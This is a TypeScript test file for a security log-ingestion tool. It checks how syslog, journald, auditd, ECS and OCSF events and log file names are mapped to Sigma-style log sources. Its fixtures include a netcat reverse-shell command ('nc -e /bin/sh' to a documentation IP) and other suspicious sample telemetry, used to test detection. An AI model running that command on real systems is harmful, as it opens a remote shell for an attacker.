// Where events without a Windows channel come from: syslog lines parsed by our own parser (RFC 5424 and
// 3164), journald JSON, auditd records, Sysmon for Linux, ECS events, our OCSF projection, file names.
import { describe, expect, it } from 'vitest';
import { normalize } from '../../ingest/normalize.ts';
import { parseSyslog } from '../../ingest/parse/syslog.ts';
import { declaredSourceOf, withOcsf } from './declared-source.ts';
import { fieldResolver } from './resolver.ts';

const NOW = new Date('2024-03-05T12:00:00Z');

/** A syslog line as our syslog input stores it (`native` of a `format: 'syslog'` event). */
function syslogNative(line: string): Record<string, unknown> {
  const r = parseSyslog(line, NOW);
  if (!r.ok) throw new Error(r.error);
  return JSON.parse(JSON.stringify(r.value)) as Record<string, unknown>;
}
const ofSyslog = (line: string) => declaredSourceOf(fieldResolver(syslogNative(line)), { format: 'syslog' });
const of = (event: unknown, source?: string) => declaredSourceOf(fieldResolver(event), source ? { source } : {});

describe('declaredSourceOf: syslog', () => {
  it.each([
    ['RFC 5424 sshd, authpriv', '<86>1 2024-03-05T10:15:22.123Z web01 sshd 2411 - - Failed password for invalid user admin from 203.0.113.7 port 50122 ssh2', ['sshd', 'auth']],
    ['RFC 3164 sshd, auth', '<38>Mar  5 10:15:22 web01 sshd[2411]: Accepted publickey for alice from 198.51.100.4 port 52814 ssh2', ['sshd', 'auth']],
    ['OpenSSH 9.8 sshd-session', '<38>Mar  5 10:15:22 web01 sshd-session[2411]: Connection closed by 203.0.113.7 port 50122 [preauth]', ['sshd', 'auth']],
    ['RFC 3164 sudo', '<85>Mar  5 10:16:01 web01 sudo:    alice : TTY=pts/0 ; PWD=/home/alice ; USER=root ; COMMAND=/usr/bin/id', ['sudo', 'auth']],
    ['su', '<85>Mar  5 10:16:05 web01 su[3101]: (to root) alice on pts/1', ['auth']],
    ['CRON (upper case), cron facility', '<78>Mar  5 10:17:01 web01 CRON[2533]: (root) CMD (run-parts /etc/cron.hourly)', ['cron', 'syslog']],
    ['CRON session via authpriv', '<86>Mar  5 10:17:01 web01 CRON[2533]: pam_unix(cron:session): session opened for user root(uid=0) by (uid=0)', ['cron', 'auth']],
    ['crontab', '<78>Mar  5 10:18:12 web01 crontab[4012]: (alice) REPLACE (alice)', ['cron', 'syslog']],
    ['vsftpd', '<30>Mar  5 10:19:00 ftp01 vsftpd[811]: Connection refused: too many sessions for this address.', ['vsftpd', 'syslog']],
    ['clamd', '<30>Mar  5 10:19:30 mx01 clamd[622]: /tmp/x.php: Php.Webshell.Generic-1 FOUND', ['clamav', 'syslog']],
    ['systemd unit', '<30>1 2024-03-05T10:20:00Z web01 systemd 1 - - Stopping firewalld - dynamic firewall daemon...', ['syslog']],
    ['systemd-logind (exact entry before prefix)', '<38>Mar  5 10:20:00 web01 systemd-logind[700]: New session 42 of user alice.', ['auth']],
    ['auditd line via audisp-syslog', '<14>1 2024-03-05T10:18:00Z web01 audisp-syslog - - - type=EXECVE msg=audit(1709633880.456:4250): argc=3 a0="getcap" a1="-r" a2="/"', ['auditd', 'syslog']],
  ])('%s', (_name, line, services) => {
    expect(ofSyslog(line)).toEqual({ product: 'linux', service: services, mapping: 'message' });
  });

  it('an auditd record in any program’s message is auditd', () => {
    expect(ofSyslog('<5>Mar  5 10:18:00 web01 unknownd: node=web01 type=SYSCALL msg=audit(1709633880.456:4250): arch=c000003e syscall=59 success=yes exit=0 comm="id" exe="/usr/bin/id" key="rootcmd"'))
      .toEqual({ product: 'linux', service: ['auditd', 'syslog'], mapping: 'message' });
  });

  it('programs that are not known Linux programs say nothing (network devices, unknown apps)', () => {
    expect(ofSyslog('<189>Mar  5 10:20:00 fw01 %ASA-5-111008: User enable_15 executed the write memory command')).toBeUndefined();
    expect(ofSyslog('<134>1 2024-03-05T10:20:00Z fw01 FortiGate-60F - - - devname=fw01 action=deny')).toBeUndefined();
    expect(ofSyslog('<13>Mar  5 10:20:00 just some text')).toBeUndefined();
  });

  it('journald JSON (journalctl -o json) and shipper field names', () => {
    expect(of({ SYSLOG_IDENTIFIER: 'sudo', SYSLOG_FACILITY: '10', MESSAGE: 'alice : TTY=pts/0 ; PWD=/home/alice ; USER=root ; COMMAND=/bin/sh', _COMM: 'sudo' }))
      .toEqual({ product: 'linux', service: ['sudo', 'auth'], mapping: 'message' });
    expect(of({ program: '/usr/sbin/sshd', facility: 'authpriv', message: 'Invalid user oracle from 203.0.113.9' }))
      .toEqual({ product: 'linux', service: ['sshd', 'auth'], mapping: 'message' });
    expect(of({ app_name: 'named', message: 'client 203.0.113.4#53: zone transfer denied AXFR from 203.0.113.4' }))
      .toEqual({ product: 'linux', service: ['syslog'], mapping: 'message' });
  });
});

describe('declaredSourceOf: other sources', () => {
  it('an auditd record as JSON (key=value fields)', () => {
    expect(of({ type: 'EXECVE', msg: 'audit(1709633821.123:4242)', argc: '3', a0: 'getcap', a1: '-r', a2: '/' }))
      .toEqual({ product: 'linux', service: ['auditd'], mapping: 'message' });
    expect(of({ type: 'PATH', item: '0', name: '/etc/issue', nametype: 'NORMAL' })).toEqual({ product: 'linux', service: ['auditd'], mapping: 'message' });
    // `type` alone is not enough: plenty of JSON has one.
    expect(of({ type: 'LOGIN', user: 'alice' })).toBeUndefined();
  });

  it('Sysmon for Linux and Windows events have a channel: routed by it, nothing declared', () => {
    const sysmon = { Event: { System: { Provider: { '#attributes': { Name: 'Linux-Sysmon' } }, EventID: 1, Channel: 'Linux-Sysmon/Operational', Computer: 'web01' }, EventData: { Image: '/usr/bin/whoami', CommandLine: 'whoami', User: 'root' } } };
    expect(of(sysmon)).toBeUndefined();
    expect(of({ Channel: 'Security', EventID: 4688, NewProcessName: 'C:\\x.exe' })).toBeUndefined();
  });

  it('an ECS process event: category, product from host.os, the ECS mapping', () => {
    const ecs = {
      '@timestamp': '2024-03-05T10:21:00.000Z',
      ecs: { version: '8.11.0' },
      event: { kind: 'event', category: ['process'], type: ['start'], action: 'exec', module: 'endpoint', dataset: 'endpoint.events.process' },
      host: { name: 'web01', os: { type: 'linux', family: 'debian', platform: 'ubuntu' } },
      process: { pid: 4242, executable: '/usr/bin/base64', command_line: 'base64 -d /tmp/payload', parent: { executable: '/bin/bash', pid: 4100 } },
      user: { name: 'alice' },
    };
    expect(of(ecs)).toEqual({ product: 'linux', category: ['process_creation'], mapping: 'ecs' });
    // Flat dotted keys (as some shippers write ECS) read the same.
    expect(of({ 'event.category': 'process', 'event.type': 'start', 'host.os.platform': 'darwin', 'process.executable': '/bin/zsh' }))
      .toEqual({ product: 'macos', category: ['process_creation'], mapping: 'ecs' });
  });

  it('ECS network, DNS, file, auditbeat', () => {
    expect(of({ event: { category: ['network'], type: ['connection', 'start'] }, host: { os: { type: 'linux' } }, destination: { ip: '203.0.113.5', port: 4444 } }))
      .toEqual({ product: 'linux', service: ['connection'], category: ['network_connection', 'network'], mapping: 'ecs' });
    expect(of({ event: { category: 'network', type: 'protocol' }, dns: { question: { name: 'evil.example' } } }))
      .toEqual({ service: ['dns'], category: ['dns', 'network'], mapping: 'ecs' });
    expect(of({ event: { category: ['file'], type: ['deletion'] }, host: { os: { type: 'linux' } }, file: { path: '/var/log/wtmp' } }))
      .toEqual({ product: 'linux', category: ['file_delete'], mapping: 'ecs' });
    expect(of({ event: { category: ['process'], type: ['start'], module: 'auditd', action: 'executed' }, process: { executable: '/usr/bin/id' } }))
      .toEqual({ product: 'linux', service: ['auditd'], category: ['process_creation'], mapping: 'ecs' });
    // ECS, but nothing Sigma has a name for.
    expect(of({ ecs: { version: '8.0.0' }, event: { category: ['iam'] } })).toBeUndefined();
  });

  it('a logsource carried by the event, and one the caller knows', () => {
    expect(of({ logsource: { product: 'Zeek', service: 'dns' }, query: 'evil.example' })).toEqual({ product: 'zeek', service: 'dns', mapping: 'message' });
    expect(of({ logsource: 'linux', message: 'x' })).toBeUndefined();
    const get = fieldResolver({ message: 'Corrupted MAC on input. [preauth]' });
    expect(declaredSourceOf(get)).toBeUndefined();
    expect(declaredSourceOf(get, { logsource: { product: 'linux', service: 'sshd' } })).toEqual({ product: 'linux', service: 'sshd', mapping: 'message' });
  });

  it('our OCSF projection, through withOcsf', () => {
    const wire = normalize({ format: 'json', source: 'edr', native: { cmd: 'nc -e /bin/sh 203.0.113.5 4444', exe: '/usr/bin/nc', CommandLine: 'nc -e /bin/sh 203.0.113.5 4444', Image: '/usr/bin/nc' } }, NOW);
    expect(wire.ocsf.class_uid).toBe(1007);
    const get = withOcsf(fieldResolver(wire.native), wire.ocsf);
    expect(get('ocsf.process.cmd_line')).toBe('nc -e /bin/sh 203.0.113.5 4444');
    // Process Activity of unknown activity (0): not clearly a process creation.
    expect(declaredSourceOf(get, { format: wire.format, source: wire.source })).toBeUndefined();
    const launch = withOcsf(fieldResolver({}), { class_uid: 1007, activity_id: 1, process: { cmd_line: 'id' } });
    expect(declaredSourceOf(launch)).toEqual({ category: ['process_creation'], mapping: 'ocsf' });
  });

  it('a stored syslog event, as the live detector sees it', () => {
    const native = syslogNative('<38>Mar  5 10:15:22 web01 sshd[2411]: Corrupted MAC on input. [preauth]');
    const wire = normalize({ format: 'syslog', source: 'syslog-udp', native }, NOW);
    expect(declaredSourceOf(withOcsf(fieldResolver(wire.native), wire.ocsf), { format: wire.format, source: wire.source }))
      .toEqual({ product: 'linux', service: ['sshd', 'auth'], mapping: 'message' });
  });

  it('a log file’s usual name, when the event says nothing else', () => {
    expect(of({ message: 'whatever' }, '/cases/42/var/log/auth.log.1')).toEqual({ product: 'linux', service: ['auth'], mapping: 'message' });
    expect(of({ message: 'whatever' }, 'secure-20240301.json.gz')).toEqual({ product: 'linux', service: ['auth'], mapping: 'message' });
    expect(of({ message: 'whatever' }, 'audit.log.ndjson')).toEqual({ product: 'linux', service: ['auditd'], mapping: 'message' });
    expect(of({ message: 'whatever' }, 'events.json')).toBeUndefined();
  });
});
